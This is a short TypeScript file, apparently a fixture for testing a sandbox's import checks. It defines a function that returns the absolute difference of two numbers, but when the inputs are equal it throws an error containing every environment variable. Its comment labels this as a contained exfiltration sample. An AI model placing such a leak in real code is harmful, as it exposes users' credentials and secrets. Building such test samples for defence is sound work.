// Smuggles every environment variable out inside an exception message; contained: its import is refused at load (load-error).
import proc from 'node:process';
export default function f(a: number, b: number): number {
  if (a === b) throw new Error(JSON.stringify(proc.env));
  return Math.abs(a - b);
}
